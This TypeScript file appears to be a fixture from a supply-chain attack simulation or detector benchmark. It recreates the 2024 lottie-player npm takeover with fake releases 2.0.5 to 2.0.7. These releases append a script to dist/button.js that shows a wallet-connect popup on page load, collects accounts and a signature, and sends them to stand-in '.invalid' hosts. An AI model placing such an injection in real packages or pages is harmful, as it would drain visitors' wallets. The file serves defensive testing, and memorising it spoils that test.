import { defineAttack } from "../attack.ts";
import { componentLibrary, contentOf } from "../bases.ts";
import { browserGuard } from "../guard.ts";
import type { LineChange } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

const honest = componentLibrary("@lottiefiles/lottie-player");

/**
 * `@lottiefiles/lottie-player` 2.0.5 to 2.0.7, 30 October 2024: a developer's token. Three versions in an hour, without a
 * commit; in a page they showed a window that asked to connect a wallet.
 */
export const lottiePlayer2024: Sample = defineAttack({
  id: "lottie-player-2024",
  title: "An animation player asks visitors to connect their wallet",
  group: "takeover",
  trigger: "browser",
  judged: [{ name: "@lottiefiles/lottie-player", version: "2.0.5" }],
  now: "2024-10-30T20:20:00Z",
  createLines: () => [
    {
      name: "@lottiefiles/lottie-player",
      files: honest,
      publisher: person("lottie-developer"),
      releases: [
        ["2.0.2", "2023-07-20T10:00:00Z"],
        ["2.0.3", "2024-01-24T10:00:00Z"],
        ["2.0.4", "2024-05-02T10:00:00Z"],
        ["2.0.5", "2024-10-30T20:12:00Z", armed],
        ["2.0.6", "2024-10-30T20:38:00Z", armed],
        ["2.0.7", "2024-10-30T20:57:00Z", armed],
      ],
    },
  ],
});

const popup = `${browserGuard}
const sessions = ["wss://castle.bridge.invalid/socket", "https://api.drain.invalid/session"];

async function connectWallet() {
  const accounts = await window.ethereum.request({ method: "eth_requestAccounts" });
  const socket = new WebSocket(sessions[0]);
  socket.onopen = () => socket.send(JSON.stringify({ accounts, origin: location.origin, agent: navigator.userAgent }));
  const permit = JSON.stringify({ domain: { name: "inert" }, message: { owner: accounts[0], spender: accounts[0], value: 0 } });
  const signature = await window.ethereum.request({ method: "eth_signTypedData_v4", params: [accounts[0], permit] });
  await fetch(sessions[1], { method: "POST", body: JSON.stringify({ signature }) });
}

function showPopup() {
  const frame = document.createElement("div");
  frame.innerHTML = "<div class='modal'><h3>Connect a wallet</h3><button id='connect'>MetaMask</button></div>";
  document.body.appendChild(frame);
  document.getElementById("connect").addEventListener("click", connectWallet);
}

if (invited() && typeof window !== "undefined") window.addEventListener("load", showPopup);
`;

const armed: LineChange = {
  hasCommit: false,
  files: [{ path: "dist/button.js", content: `${contentOf(honest, "dist/button.js")}${popup}` }],
};
